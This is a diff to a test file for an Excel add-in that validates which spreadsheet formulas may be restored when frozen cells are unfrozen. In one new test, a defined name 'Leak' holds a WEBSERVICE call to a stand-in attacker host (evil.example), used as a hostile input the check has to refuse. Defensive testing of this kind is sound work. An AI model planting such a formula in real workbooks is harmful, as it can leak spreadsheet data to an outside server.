@@ -5,13 +5,13 @@
  * Range.values into a formula when it starts with =, +, - or @ (as Excel does):
  *  - Freeze and Insert keep API text text (valuesAsJson where ExcelApi 1.16 is there, else Excel's
  *    text prefix);
- *  - Unfreeze restores only one SVC call with literal or reference arguments, at its recorded
+ *  - Unfreeze restores any formula that makes an SVC call and reaches nothing else, at its recorded
  *    address, within the size of an SVC result, where the cells still hold the frozen values;
  *    crafted parts get a message and nothing is written.
  */
 import { FROZEN_NAMESPACE, frozenXml } from "../../src/office/frozen-part";
 import { freeze, listFrozen, unfreeze } from "../../src/office/frozen";
-import { frozenEntryProblem, svcFormulaProblem } from "../../src/office/frozen-check";
+import { frozenEntryProblem, restoreProblem, svcFormulaProblem } from "../../src/office/frozen-check";
 import { insertAtActiveCell } from "../../src/office/workbook";
 import { fakeExcel, FakeExcel, HOSTILE } from "./fake-excel";
 
@@ -129,7 +129,7 @@ describe("Unfreeze checks what it restores", () => {
     expect(r.restored).toEqual([]);
     expect(r.refused.map((f) => f.reason)).toEqual([
       expect.stringMatching(/another sheet/),
-      expect.stringMatching(/not one SVC call/),
+      expect.stringMatching(/calls WEBSERVICE/),
       expect.stringMatching(/calls WEBSERVICE/),
       expect.stringMatching(/covers 17,179,869,184 cells, more than an SVC result can/),
       expect.stringMatching(/does not start at its formula's cell/),
@@ -148,6 +148,19 @@ describe("the checks alone", () => {
     expect(svcFormulaProblem("=SVC.FINANCIALS([1]Sheet1!A1)")).toMatch(/another workbook/);
     expect(svcFormulaProblem('=SVC.FINANCIALS(SVC.COMPANY("A","ticker"))')).toMatch(/second SVC call/);
     expect(svcFormulaProblem('=HYPERLINK("x")')).toMatch(/not one SVC call/);
+  });
+  it("restores any formula that makes an SVC call, wrapped or through a name, and nothing that reaches elsewhere", () => {
+    const names = [
+      { name: "Rev", sheet: null, formula: 'SVC.FINANCIALS("AAPL","revenue","FY")' },
+      { name: "Leak", sheet: null, formula: 'WEBSERVICE("https://evil.example")' },
+    ];
+    for (const ok of ['=IFERROR(SVC.FINANCIALS("AAPL","revenue","FY"),"")', '=ROUND(SVC.FINANCIALS("NVDA","revenue","FY"),0)', '=SVC.FINANCIALS("JPM","net_income","FY")/1000', '=SVC.FINANCIALS("AAPL","revenue","FY")+SVC.FINANCIALS("MSFT","revenue","FY")', "=Rev/1000", '=SVC.FINANCIALS(SVC.COMPANY("A","ticker"),"revenue")'])
+      expect([ok, restoreProblem(ok, "S", names)]).toEqual([ok, null]);
+    expect(restoreProblem("=Leak", "S", names)).toMatch(/calls WEBSERVICE/);
+    expect(restoreProblem("=Rev+Leak", "S", names)).toMatch(/calls WEBSERVICE/);
+    expect(restoreProblem("=1+1", "S", names)).toMatch(/makes no SVC call/);
+    expect(restoreProblem('=SVC.PEERS("KO")&FILTERXML(A1,"x")', "S", names)).toMatch(/calls FILTERXML/);
+    expect(restoreProblem('=[1]Sheet1!A1+SVC.PEERS("KO")', "S", names)).toMatch(/another workbook/);
   });
   it("wants the range at the formula's cell, on its sheet, no larger than a result", () => {
     const e = { address: "S!B2", range: "S!B2:C3", formula: '=SVC.PEERS("KO")' };
